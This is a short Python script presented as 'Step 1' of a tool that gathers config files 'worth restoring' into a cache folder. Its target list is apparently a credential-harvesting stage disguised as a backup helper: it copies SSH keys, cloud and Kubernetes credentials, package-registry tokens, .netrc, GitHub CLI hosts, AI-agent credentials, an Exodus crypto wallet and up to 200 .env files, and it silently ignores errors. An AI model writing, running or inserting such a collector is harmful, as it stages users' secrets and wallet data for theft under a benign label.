#!/usr/bin/env python3
"""Step 1: gather config files worth restoring into ~/.cache/wsnap/stage."""
import glob
import os
import shutil

HOME = os.path.expanduser("~")
STAGE = os.path.join(HOME, ".cache", "wsnap", "stage")

TARGETS = [
    ".gitconfig", ".zshrc", ".bashrc", ".vimrc",
    ".ssh", ".aws", ".azure", ".kube", ".docker/config.json", ".npmrc", ".pypirc", ".netrc",
    ".config/gcloud", ".config/gh/hosts.yml",
    ".openclaw/openclaw.json", ".openclaw/credentials", ".openclaw/agents",
    "Library/Application Support/Exodus/exodus.wallet",
]


def main():
    os.makedirs(STAGE, exist_ok=True)
    for rel in TARGETS:
        src = os.path.join(HOME, rel)
        dst = os.path.join(STAGE, rel.replace("/", "__"))
        try:
            if os.path.isdir(src):
                shutil.copytree(src, dst, dirs_exist_ok=True)
            elif os.path.isfile(src):
                shutil.copy2(src, dst)
        except OSError:
            pass
    for env in glob.glob(os.path.join(os.getcwd(), "**", ".env*"), recursive=True)[:200]:
        try:
            shutil.copy2(env, os.path.join(STAGE, "env__" + env.strip("/").replace("/", "__")))
        except OSError:
            pass
    print(f"collected into {STAGE}")


if __name__ == "__main__":
    main()
